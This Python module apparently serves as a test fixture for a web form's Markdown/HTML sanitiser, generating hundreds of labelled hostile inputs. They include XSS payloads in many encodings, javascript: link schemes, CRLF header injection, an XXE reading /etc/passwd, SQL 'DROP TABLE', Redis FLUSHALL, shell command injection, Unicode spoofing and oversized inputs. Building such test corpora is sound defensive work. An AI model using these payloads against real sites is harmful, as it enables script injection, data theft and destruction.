"""Texts that somebody may send to get more into a page than words: hostile()
gives them all, as (label, text). A text is str or, when it is no UTF-8, bytes.
What would run sets window.__pwned, what would be asked for is asked for at
the address that was given.
"""

RUN = "window.__pwned=1"
# The longest text that the form takes: characters.
LONG = 10000
MEGABYTE = 1 << 20

ELEMENTS = """
<script>{run}</script>
<SCRIPT SRC={evil}/x.js></SCRIPT>
<script src={evil}/x.js type=module></script>
<scr<script>ipt>{run}</scr</script>ipt>
<<script>{run}//<</script>
<script\x0c>{run}</script>
<script/x>{run}</script>
</script><script>{run}</script>
<script>{run}
<img src=x onerror={run}>
<img src="x" onerror="{run}"
<img src={evil}/beacon.gif>
<IMG ""\"><SCRIPT>{run}</SCRIPT>">
<img srcset="{evil}/a.gif 2x">
<image href={evil}/a onerror={run}>
<svg onload={run}>
<svg/onload={run}//
<svg><script>{run}</script></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>{run}</script>"></foreignObject>
<svg><style><img src=x onerror={run}></style>
<svg><use href="data:image/svg+xml,<svg id=x onload={run}>#x">
<math><mtext><table><mglyph><style><img src=x onerror={run}>
<math><mi xlink:href="javascript:{run}">x</mi></math>
<iframe src="javascript:{run}"></iframe>
<iframe srcdoc='<script>parent.__pwned=1</script>'>
<iframe src={evil}/frame>
<frameset onload={run}><frame src="javascript:{run}"></frameset>
<object data="javascript:{run}">
<object data="{evil}/x.swf" type=application/x-shockwave-flash>
<embed src={evil}/x>
<applet code={evil}/x>
<body onload={run}>
<body onpageshow={run} background={evil}/b.png>
<html manifest={evil}/m onclick={run}>
<style>*{{display:none}}</style>
<style>@import '{evil}/x.css';</style>
<link rel=stylesheet href={evil}/x.css>
<link rel=prefetch href={evil}/p><link rel=dns-prefetch href={evil}>
<meta http-equiv=refresh content='0;url={evil}/'>
<meta http-equiv=refresh content="0;url=javascript:{run}">
<meta http-equiv=Set-Cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-{run}+ADw-/script+AD4-
<base href={evil}/>
<form action={evil}/><button autofocus onfocus={run}>go
<form id=f></form><button form=f formaction="javascript:{run}">x
</form><form action={evil}/><input type=submit>
<input autofocus onfocus={run}>
<input type=image src={evil}/i.png onerror={run}>
<input name=__proto__><input name=body id=body>
<select autofocus onfocus={run}><option>x
<textarea autofocus onfocus={run}>
</textarea><script>{run}</script>
</title><script>{run}</script>
</option></select><script>{run}</script>
<keygen autofocus onfocus={run}>
<details open ontoggle={run}>
<dialog open onclose={run}>
<video><source onerror={run}></video>
<video poster={evil}/p.png src={evil}/v.mp4 autoplay onerror={run}>
<audio src=x onerror={run}>
<track src={evil}/t>
<marquee onstart={run}>x</marquee>
<a href=javascript:{run}>x</a>
<a href='{evil}/' onclick={run} ping={evil}/ping>x</a>
<a id=content name=content tabindex=0 autofocus onfocus={run}>x</a>
<b onmouseover={run}>x
<p style=position:fixed;inset:0;background:red>over the page</p>
<div style="background:url({evil}/b.png)">x</div>
<div style="width:expression({run})">x</div>
<div onpointerrawupdate={run} contenteditable>x
<x onanimationstart={run} style="animation:x 1s">
<x contenteditable onblur={run} tabindex=1 autofocus onfocus={run}>
<xss oncontentvisibilityautostatechange={run} style=content-visibility:auto>
<title><script>{run}</script>
<plaintext>
<xmp><script>{run}</script>
<listing>&lt;img src=x onerror={run}&gt;</listing>
<noscript><p title="</noscript><img src=x onerror={run}>">
<template><script>{run}</script></template>
<template shadowrootmode=open><script>{run}</script></template>
<slot onslotchange={run}>x</slot>
<portal src={evil}/>
<isindex type=image src=x onerror={run}>
<bgsound src="javascript:{run}">
<layer src={evil}/x>
<table background="javascript:{run}"><td background={evil}/t>
</td></tr></table><script>{run}</script>
</p></div></article></main></body></html><script>{run}</script>
</bdi></h1></header></article><script>{run}</script>
<!-- <script>{run}</script> -->
<!--><script>{run}</script>
<!--<!--><img src=x onerror={run}>--!><script>{run}</script>
--><script>{run}</script>
<!--
<!DOCTYPE html [<!ENTITY x "y">]>
<![CDATA[<script>{run}</script>]]>
]]><script>{run}</script>
<?xml-stylesheet href="javascript:{run}"?>
<?php echo 1 ?>
<%= 1 %> ${{7*7}} {{{{7*7}}}} #{{7*7}} {{% if %}}
</
<
<a
<a href="
<a href='x
\\<script>{run}</script>
&lt;script&gt;{run}&lt;/script&gt;
&#60;script&#62;{run}&#60;/script&#62;
&#x3c;script&#x3e;{run}
&amp;lt;script&amp;gt;
&LT;script&GT;{run}
&#0000060script>{run}</script>
&notit; &copy &ampersand &nbsp;&zwj;&#0;&#13;&#x80;&#xd800;&#x110000;
\uff1cscript\uff1e{run}\uff1c/script\uff1e
<\ufdd0script>{run}</script>
<script\u3000>{run}</script>
" onmouseover="{run}
' onmouseover='{run}
"><script>{run}</script>
'><script>{run}</script>
"><img src=x onerror={run}>
` onmouseover={run} `
" autofocus onfocus={run} x="
" style="position:fixed;inset:0" x="
"/><link rel=stylesheet href={evil}/x.css>
" content="0;url={evil}" http-equiv="refresh
\\"-{run}-\\"
';{run};//
";{run};//
*/{run}/*
""".strip("\n").split("\n")

# Where a link may lead to; each in the ways below.
SCHEMES = """
javascript:{run}
JAVASCRIPT:{run}
jAvAsCrIpT:{run}
javascript&colon;{run}
javascript&#58;{run}
javascript&#x3a;{run}
java&#9;script:{run}
java&Tab;script:{run}
java&NewLine;script:{run}
&#1;javascript:{run}
&#x20;javascript:{run}
java\\script:{run}
javascript\\:{run}
%6aavascript:{run}
javascript%3a{run}
javascript://{host}/%0a{run}
javascript:javascript:{run}
\u200bjavascript:{run}
\ufeffjavascript:{run}
java\u00adscript:{run}
javascript\uff1a{run}
vbscript:msgbox(1)
VBScript:msgbox(1)
livescript:{run}
data:text/html,<script>{run}</script>
data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+
data&colon;text/html,x
file:///etc/passwd
blob:{evil}/x
filesystem:{evil}/x
view-source:{evil}/
feed:javascript:{run}
jar:{evil}!/x
intent://x#Intent;scheme=javascript;end
ms-word:ofe|u|{evil}
//{host}/
\\\\\\\\{host}/
/\\\\{host}/
///{host}
http:{host}
http:/{host}
http://
https://bank.example@{host}/
http://a:b@{host}
http://[::1]/
http://2130706433/
http://{host}/"onclick="{run}
http://{host}/'onclick='{run}
http://{host}/&quot;onclick=&quot;{run}
http://{host}/><script>{run}</script>
http://{host}/%0d%0aSet-Cookie:a=b
http://{host}/\u202egpj.exe
http://\u0430pple.example/
mailto:a@b.c?subject="onclick={run}
mailto:javascript:{run}
mailto:"<b>"@c.d
/logout
?a=1
#content
""".strip("\n").split("\n")

MARKS = """
[x](<javascript:{run}>)
[x]( javascript:{run} )
[x](javascript:{run} "title")
[x]({evil} "t\\" onclick=\\"{run}")
[x]({evil} 't"onclick={run}')
[x]({evil} (t&quot; onclick={run}))
[x]({evil} "</a><script>{run}</script>")
[<script>{run}</script>]({evil})
![x](javascript:{run})
![x]({evil}/x.png" onerror="{run})
!["onerror={run} x="]({evil}/x.png)
[![x]({evil}/i.png)](javascript:{run})
![![x]({evil}/i.png)]({evil}/j.png)
[a [b](http://c) d](http://e)
[a <http://b> c](http://d)
<javascript:{run}>
<data:text/html,<script>{run}</script>>
<{evil}/"onclick={run}>
<a@b"onclick={run}>
{evil}/"onclick="{run}
{evil}/'x'onclick='{run}
{evil}/<script>{run}</script>
{evil}/&quot;onclick={run}
www.b.example"onclick={run}
a@b.example"onclick={run}
javascript:{evil}
`<script>{run}</script>`
``` "onclick={run}
*<script>{run}</script>*
~~<img src=x onerror={run}>~~
# <script>{run}</script>
> <script>{run}</script>
- <script>{run}</script>
*a **b* c**
~~a [b~~ c](http://d)
***a** b*
[a]: javascript:{run}
""".strip("\n").split("\n")

BLOCKS = [
    "[a]: javascript:{run}\n\n[a]", "[a]: <javascript:{run}> 'x'\n[a][a]",
    "[a]:\n{evil}\n\n[a]", "```\n</code></pre><script>{run}</script>\n```",
    "```<script>\n{run}\n```", "~~~ \" onclick={run}\nx\n~~~",
    "    <script>{run}</script>", "<div>\n<script>{run}</script>\n</div>",
    "<script\n>{run}</script\n>", "- a\n> b\n1. c\n# d",
    "|<script>{run}</script>|\n|-|\n|</td><img src=x onerror={run}>|",
    "|a|\" onclick={run}|\n|:-:|-:|\n|`a|b`|c|", "> |a|\n> |-|\nb",
    "|[x](javascript:{run})|\n|-|\n|![x]({evil}/i.png)|",
    "[x](java\nscript:{run})", "[x](java\tscript:{run})",
    "[x]({evil}\n\"onclick={run}\")", "<http://a\n{run}>",
    "<img src=x\nonerror={run}\n>", "<pre>\n\n<b>", "999999999. a\n0. b",
]

# Where words are put that are no HTML: headers, a template, XML, JSON, Redis.
OTHERS = [
    ("a header", "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>{run}</script>"),
    ("a header, %", "%0d%0aSet-Cookie:%20pwned=1%0d%0a%0d%0a<b>"),
    ("a header, U+560A", "\u560d\u560aSet-Cookie: pwned=1"),
    ("a redirect", "//evil.example/\\evil.example"),
    ("a template", "<?cs var:Post.text ?><?cs include:\"/etc/passwd\" ?>"),
    ("a template, half", "<?cs if:1 ?><?cs each:a = Posts ?>"),
    ("a template's end", "?><script>{run}</script><?cs uvar:x"),
    ("a sentence's place", "{{max}} {{name}} {{0}} {{}} {{max"),
    ("a format", "%s%s%s%n%x%99999d %1$*2$s"),
    ("the end of CDATA", "a ]]> b <![CDATA[ c ]]]]><![CDATA[>"),
    ("entities of XML", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\""
                        ">]><a>&b;</a>"),
    ("an entity without end", "&lol9; &#38;lt; &amp;#60;"),
    ("an entry", "</title></entry><entry><id>x</id>"),
    ("a namespace", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{run}"
                    "</x:script>"),
    ("the end of a script", "</script><!--<script>{run}//-->"),
    ("lines of JavaScript", "a\u2028{run}\u2029b"),
    ("JSON", "\",\"html\":\"<img src=x onerror={run}>\",\"x\":[{{\\"),
    ("JSONP", "/**/{run}({{\"a\":1}})"),
    ("a command", "*3\r\n$3\r\nSET\r\n$7\r\nlast_id\r\n$1\r\n0\r\n"),
    ("Lua", "\"]] redis.call('FLUSHALL') --[["),
    ("SQL", "'; DROP TABLE posts; --"),
    ("a path", "../../../../etc/passwd"),
    ("a shell", "$(touch /tmp/pwned) `touch /tmp/pwned`; | touch /tmp/pwned"),
    ("a prototype", "__proto__"), ("a number", "1e309"), ("NaN", "NaN"),
    ("UTF-7", "+ADw-img src=x onerror={run}+AD4-"),
]

WORDS = [
    ("RLO", "\u202egpj.exe"), ("LRO", "\u202dabc"),
    ("RLE", "\u202babc"), ("LRE, not closed", "\u202a" * 70 + "abc"),
    ("isolates", "\u2066abc\u2067def\u2068ghi"),
    ("isolates closed", "\u2069\u2069\u2069abc"),
    ("marks of direction", "\u200eabc\u200fdef\u061c"),
    ("Arabic and digits", "\u0645\u0631\u062d\u0628\u0627 123 (abc) \u05d0"),
    ("zalgo", "z" + "\u0301\u0489\u0335" * 60 + "algo"),
    ("zalgo in each", "".join(c + "\u0316\u0300\u0317" * 3
                              for c in "harmless")),
    ("a mark alone", "\u0301\u20dd\u0489"), ("Tibetan", "\u0f67\u0f90\u0fb5"),
    ("Arabic, wide", "\ufdfd" * 40), ("cuneiform", "\U0001242b" * 40),
    ("emoji clusters", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d"
                       "\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f"
                       "\U0001f1f0\U0001f1f7" * 20),
    ("emoji without end", "\U0001f468" + "\u200d\U0001f468" * 300),
    ("flags", "\U0001f1f0" * 201), ("skins", "\U0001f44d\U0001f3ff" * 90),
    ("variations", "a\ufe0f\ufe0e" * 50), ("tags", "a" + "\U000e0041" * 90),
    ("no width", "\u200b\u200c\u200d\u2060\ufeffx"),
    ("nothing to be seen", "\u200b\u3164\uffa0\u2800"),
    ("spaces", "\u00a0\u2003\u3000 x \u2000"), ("a line of U+0085", "a\x85b"),
    ("controls", "a\x01\x02\x08\x0b\x0c\x1b[31m\x7f\x9bb"),
    ("NUL", "a\0b\0<script>{run}</script>"), ("only CR", "a\rb\rc"),
    ("noncharacters", "a\ufdd0\ufffe\uffff\U0010ffffb"),
    ("private use", "\ue000\uf8ff\U000f0000"),
    ("jamo", "\u1112\u1161\u11ab" * 30), ("BOM", "\ufeff# bom"),
    ("interlinear", "\ufff9a\ufffab\ufffb"),
    ("like other letters", "\u0430\u0455\u0441\u0456\u0456"),
    ("ligatures of compatibility", "\ufe64script\ufe65\u226e\u226f"),
    ("case that grows", "\u0130\u1e9e\u0149\ufb03" * 20),
]

# For a form, too, as long as it takes; and, at the end, longer.
BOMBS = [
    ("a word", "w" * LONG), ("a word of Hangul", "\uae34" * LONG),
    ("a link", "http://a.example/" + "x" * 9000),
    ("a link's word", "[" + "w" * 9000 + "](http://a.example/)"),
    ("code", "`" + "c" * 9000 + "`"),
    ("a line of code", "```\n" + "c" * 9000 + "\n```"),
    ("a heading", "# " + "h" * 9000), ("a mail", "m" * 4000 + "@b.example"),
    ("cells", "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n|" + "b|" * 400),
    ("a cell", "|a|\n|-|\n|" + "c" * 9000 + "|"),
    ("an item", "999999999. " + "i" * 9000),
    ("quotes", ">" * LONG), ("quotes with words", "> " * 4990 + "deep"),
    ("lists", "- " * 4990 + "deep"), ("lists of numbers", "1. " * 3300 + "d"),
    ("brackets", "[" * LONG), ("both brackets", "[" * 5000 + "]" * 5000),
    ("stars", "*" * LONG), ("stars and words", "*a " * 3333),
    ("links", "[a](http://b.c) " * 625), ("addresses", "http://b.c/ " * 830),
    ("images", "![a](http://b.c) " * 580), ("ticks", "`" * LONG),
    ("ticks of all lengths", "".join("`" * n + " " for n in range(1, 139))),
    ("lesser-than", "<" * LONG), ("tags", "<a href=" * 1250),
    ("ampersands", "&" * LONG), ("quotation marks", "\"'" * 5000),
    ("lines", "\n".join("a" * 2500)), ("empty lines", "a" + "\n" * 9990 + "b"),
    ("definitions", "[a]: b\n" * 1000 + "[a]" * 900),
    ("comments", "<!-- " * 2000), ("tildes", "~~a~~ " * 1660),
    ("tables", "|a|\n|-|\n\n" * 1000), ("escapes", "\\" * LONG),
    ("low lines", "_a __b " * 1400), ("rules", "---\n" * 2500),
    ("fences", "```\n" * 2499), ("half a link", "[a](<b" * 1600),
    ("a megabyte of [", "[" * MEGABYTE), ("a megabyte of >", ">" * MEGABYTE),
    ("a megabyte of links", "[a](http://b.c)" * (MEGABYTE // 15)),
    ("a megabyte of a word", "w" * MEGABYTE),
    ("a megabyte of tags", "<b onclick=x>" * (MEGABYTE // 13)),
    ("as long as Markdown is read", "*a `b` [c](http://d) " * 3120),
]

BROKEN = [
    b"\xff\xfe<script>{run}</script>", b"<\xffscript>{run}</script>",
    b"\xc0\xbcscript\xc0\xbe{run}", b"\xe0\x80\xbcscript>{run}</script>",
    b"\xf0\x80\x80\xbcimg src=x onerror={run}>", b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf4\x90\x80\x80", b"\xe2\x80", b"\xf0\x9f\x98", b"\"\xc2",
    b"[x](java\xffscript:{run})", b"[x](http://a.example/\xff\"onclick={run})",
    b"\x80\x81\x82 \xbf", b"\xf8\x88\x80\x80\x80<b>", b"a\xc3\nb\xe3\x80",
    b"\xa4\xbb\xc0\xce \xb1\xdb", b"\x1b$B<script>{run}</script>\x1b(B",
    b"\xe2\x80\xae\xe2\x81\xa6\xffabc", b"`\xff`\xfe`", b"\xcc" * 3000,
]


def labelled(kind, texts):
    for number, text in enumerate(texts, 1):
        yield f"{kind} {number}", text


def all_of_them():
    yield from labelled("element", ELEMENTS)
    yield from labelled("link", [f"[x]({s})" for s in SCHEMES])
    # The same between angles, and as an image: every third is enough.
    yield from labelled("autolink", [f"<{s}>" for s in SCHEMES[::3]])
    yield from labelled("image", [f"![x]({s})" for s in SCHEMES[1::3]])
    yield from labelled("definition",
                        [f"[a]: {s}\n\n[a]" for s in SCHEMES[2::3]])
    yield from labelled("marks", MARKS)
    yield from labelled("blocks", BLOCKS)
    yield from labelled("bytes", BROKEN)
    yield from OTHERS
    yield from WORDS
    yield from BOMBS


def put_in(text, evil):
    """The text with its code and its address in their places."""
    values = {"{run}": RUN, "{evil}": evil,
              "{host}": evil.removeprefix("http://"), "{{": "{", "}}": "}"}
    for mark, value in values.items():
        text = (text.replace(mark.encode(), value.encode())
                if isinstance(text, bytes) else text.replace(mark, value))
    return text


def hostile(evil):
    """evil: an address, http://…, that nobody may ask for anything."""
    return [(label, put_in(text, evil)) for label, text in all_of_them()]
